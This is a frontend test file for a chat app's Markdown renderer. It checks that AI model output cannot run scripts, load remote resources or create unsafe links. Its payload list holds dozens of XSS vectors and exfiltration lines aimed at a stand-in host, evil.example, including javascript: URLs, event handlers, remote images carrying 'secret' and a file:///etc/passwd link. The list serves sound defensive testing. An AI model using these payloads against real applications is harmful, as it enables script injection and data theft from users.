// Model output is hostile: nothing in it may run, load, or lead anywhere but to a web page or a mail program.
import { render, screen } from "@testing-library/react";
import { describe, expect, test, vi } from "vitest";

import { Markdown } from "../src/chat/Markdown";
import { normalizeMath } from "../src/chat/math";
import { safeHref } from "../src/chat/sanitize";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/?q=secret'>",
  "![secret](https://evil.example/?q=secret)",
  "![secret](//evil.example/a.png)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![ref][r]\n\n[r]: https://evil.example/ref.png",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><use href='https://evil.example/x.svg#a'/></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<iframe src='https://evil.example'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='https://evil.example'></object>",
  "<embed src='https://evil.example'>",
  "<video src='https://evil.example/v.mp4' autoplay></video>",
  "<audio src='https://evil.example/a.mp3' onerror=alert(1)></audio>",
  "<picture><source srcset='https://evil.example/1.png'><img src=x></picture>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<div style='background:url(https://evil.example/x.png)'>x</div>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<form action='https://evil.example'><button>go</button><input name=q></form>",
  "<button formaction='javascript:alert(1)'>x</button>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='https://ok.example' onclick='alert(1)' target=_self>x</a>",
  "<a href='https://ok.example' ping='https://evil.example'>x</a>",
  "[x](javascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](/v1/models)",
  "[x](//evil.example)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<table background='https://evil.example/x.png'><tr><td background='https://evil.example/y.png'>x</td></tr></table>",
  "<input type=image src='https://evil.example/x.png' onfocus=alert(1) autofocus>",
  "<p id=root name=root class='fixed inset-0'>x</p>",
  "$$\\href{javascript:alert(1)}{x}$$",
  "$$\\includegraphics{https://evil.example/x.png}$$",
  "$$\\htmlData{x=y}{z} \\htmlStyle{background:url(https://evil.example)}{x}$$",
  "$$\\url{javascript:alert(1)}$$",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "```mermaid\ngraph TD; A-->B; click A 'javascript:alert(1)'\n```",
  "<!-- --><img src=x onerror=alert(1)>",
  "<p><![CDATA[<img src=x onerror=alert(1)>]]></p>",
  "`<img src=x onerror=alert(1)>`",
];

const LOADING = "img,script,iframe,object,embed,video,audio,source,picture,link,style,base,meta,form,foreignObject,use,image";

/** Everything about the rendered answer that could run, load or lead astray. */
function dangers(answer: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of answer.querySelectorAll("*")) {
    if (element.matches(LOADING)) found.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(`${name}=${value}`);
      if (["src", "srcset", "action", "formaction", "background", "ping", "data", "poster"].includes(name)) {
        found.push(`${name}=${value}`);
      }
      if (/href$/i.test(name) && !/^(https?:|mailto:|#user-content-fn)/.test(value)) found.push(`${name}=${value}`);
      if (name === "style" && /url\(/i.test(value)) found.push(`${name}=${value}`);
      if (["id", "name"].includes(name) && !value.startsWith("user-content-fn")) found.push(`${name}=${value}`);
    }
  }
  return found;
}

describe("hostile output", () => {
  test.each(HOSTILE)("does nothing: %s", async (markdown) => {
    for (const streaming of [true, false]) {
      const { container, unmount } = render(<Markdown text={`${markdown}\n\nafterwards`} streaming={streaming} />);
      // The formulas' renderer comes later; its output has to be looked at too.
      await vi.waitUntil(() => !markdown.startsWith("$$") || container.querySelector(".katex,.katex-error"));
      expect(dangers(container)).toEqual([]);
      unmount();
    }
  });

  test("is caught by this very check when it gets through", () => {
    const box = document.createElement("div");
    box.innerHTML = "<a href='javascript:alert(1)'>x</a><img src=x onerror=alert(1)><p id=root>";
    expect(dangers(box)).toHaveLength(5);
  });

  test("leaves links that open elsewhere without telling where they came from", () => {
    render(<Markdown text="[docs](https://docs.python.org/3/) <mail@example.org>" streaming={false} />);
    const link = screen.getByRole("link", { name: "docs" });
    expect(link).toHaveAttribute("href", "https://docs.python.org/3/");
    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    expect(link).toHaveAttribute("target", "_blank");
    expect(screen.getByRole("link", { name: "mail@example.org" })).toHaveAttribute("href", "mailto:mail@example.org");
  });

  test.each(["javascript:alert(1)", "/docs", "docs", "//evil.example", "data:text/html,x", "", undefined, "#root"])(
    "has no link to %s",
    (href) => expect(safeHref(href)).toBeUndefined(),
  );
});

describe("Markdown", () => {
  test("shows tables, lists, code and Chinese emphasis", () => {
    const text = "| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two\n\n```python\nprint(1)\n```\n\n这是**重点（很重要）**的内容。";
    const { container } = render(<Markdown text={text} streaming={false} />);
    expect(screen.getByRole("table")).toHaveTextContent("ab12");
    expect(screen.getAllByRole("listitem")).toHaveLength(2);
    expect(container.querySelector("pre")).toHaveTextContent("print(1)");
    expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
    expect(container.querySelector('[data-streamdown="strong"]')).toHaveTextContent("重点（很重要）");
  });

  test("takes a single dollar sign for money", () => {
    const { container } = render(<Markdown text="It costs $5, not $6." streaming={false} />);
    expect(container).toHaveTextContent("It costs $5, not $6.");
  });

  test("reads TeX's own delimiters, but not inside code", () => {
    expect(normalizeMath("\\(a\\) and \\[b\\]")).toBe("$$a$$ and \n$$\nb\n$$\n");
    expect(normalizeMath("`\\(a\\)` ```\n\\[b\\]\n```")).toBe("`\\(a\\)` ```\n\\[b\\]\n```");
    expect(normalizeMath("costs $5 (or \\$6)")).toBe("costs $5 (or \\$6)");
  });
});
